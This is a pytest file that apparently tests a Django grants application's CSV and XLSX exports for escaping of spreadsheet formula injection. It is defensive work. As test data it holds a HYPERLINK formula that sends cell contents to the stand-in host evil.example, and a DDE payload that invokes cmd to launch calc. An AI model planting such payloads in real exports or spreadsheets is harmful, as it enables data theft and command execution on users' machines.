"""Spreadsheet formula injection: every export writes text that looks like a formula as text."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from core import exports
from grants import workflow
from grants.models import Ballot, Proposal
from researchers.models import Organisation
from tests.grants.conftest import seat_council

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 90 123", "'+84 90 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # just beside the rule: a formula character later in the text is harmless
        (" =1+1", " =1+1"),
        ("a=b", "a=b"),
        ("Lúa chịu mặn", "Lúa chịu mặn"),
        ("'=quoted", "'=quoted"),
        ("", ""),
        # numbers and empty cells are not text: written as they are
        (-5, -5),
        (0, 0),
        (82.5, 82.5),
        (None, None),
    ],
)
def test_cell_escapes_exactly_the_formula_starts(value, expected):
    assert exports.cell(value) == expected


def _hostile(proposal):
    organisation = Organisation.objects.create(name="@SUM(1+1)*cmd|' /C calc'!A0", kind="company")
    Proposal.objects.filter(pk=proposal.pk).update(title=HOSTILE_TITLE, organisation=organisation)
    profile = proposal.owner.profile
    original = profile.full_name
    profile.full_name = "+Nguyễn Văn A"
    profile.save()
    return original


def test_the_csv_export_writes_formulas_as_quoted_text(client_as, submitted):
    _hostile(submitted)
    response = client_as("officer@example.org").get(
        "/proposals/export.csv", {"q": submitted.receipt_number}
    )
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 2
    row = rows[1]
    assert row[1] == "'" + HOSTILE_TITLE
    assert row[4] == "'+Nguyễn Văn A"
    assert row[5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # nothing in the file starts a cell with a formula character any more
    assert not any(value.startswith(exports.FORMULA_STARTS) for r in rows for value in r)


def test_the_xlsx_export_writes_formulas_as_strings(client_as, submitted):
    _hostile(submitted)
    response = client_as("manager@example.org").get(
        "/proposals/export.xlsx", {"q": submitted.receipt_number}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    title = sheet.cell(row=2, column=2)
    assert title.value == "'" + HOSTILE_TITLE and title.data_type == "s"
    applicant = sheet.cell(row=2, column=5)
    assert applicant.value == "'+Nguyễn Văn A" and applicant.data_type == "s"
    organisation = sheet.cell(row=2, column=6)
    assert organisation.value.startswith("'@") and organisation.data_type == "s"
    amount = sheet.cell(row=2, column=8)
    assert amount.data_type == "n" and amount.value == submitted.requested_amount
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_the_call_results_export_writes_formulas_as_strings(
    eligible, officer, reviewers, client_as
):
    seat_council(eligible, reviewers)
    under_review = workflow.start_review(eligible, by=officer)
    scores = {"overview": 10, "content": 20, "products": 13, "application": 13,
              "feasibility": 13, "capacity": 13}  # fmt: skip
    for reviewer in reviewers:
        Ballot.objects.create(
            proposal=under_review, reviewer=reviewer, scores=scores, total=82,
            submitted_at=timezone.now(),
        )  # fmt: skip
    reviewed = workflow.complete_review(under_review, by=None)
    _hostile(reviewed)
    response = client_as("manager@example.org").get(
        f"/proposals/calls/{reviewed.call_id}/results/", {"format": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    row = rows[reviewed.receipt_number]
    assert row[2].value == "'" + HOSTILE_TITLE and row[2].data_type == "s"
    assert row[3].value.startswith("'@SUM") and row[3].data_type == "s"
    assert row[4].value == 82.0 and row[4].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_a_sheet_title_excel_refuses_is_cleaned():
    assert exports.sheet_title("AG/NN:01*[x]?") == "AGNN01x"
    assert len(exports.sheet_title("x" * 40)) == 31
    assert exports.sheet_title("///") == "Sheet"
